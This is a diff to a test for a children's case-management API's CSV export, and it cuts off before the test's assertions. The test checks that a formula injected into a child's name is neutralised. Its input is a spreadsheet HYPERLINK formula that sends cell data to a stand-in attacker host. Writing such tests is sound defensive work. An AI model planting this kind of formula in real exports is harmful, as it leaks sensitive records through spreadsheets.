@@ -12,10 +12,16 @@ beforeAll(async () => {
 afterAll(() => t.close());
 
 describe('the children CSV export', () => {
-  it('neutralises a formula in a child\'s name (OWASP CSV Injection); the Excel export keeps it as text', async () => {
+  it("neutralises a formula in a child's name (OWASP CSV Injection); the Excel export keeps it as text", async () => {
     const cw = await t.login('caseworker.amravati');
     const name = '=HYPERLINK("http://evil.example/?"&A2,"Laxmi")';
-    const created = await cw.post('/api/v1/children', { locationId: villageId('Kurha'), name, sex: 'female', ageYears: 9, careStatus: 'birth_family' });
+    const created = await cw.post('/api/v1/children', {
+      locationId: villageId('Kurha'),
+      name,
+      sex: 'female',
+      ageYears: 9,
+      careStatus: 'birth_family',
+    });
     expect(created.statusCode, created.body).toBe(201);
     const id = created.json().id;
     const res = await cw.get('/api/v1/children/export?format=csv');
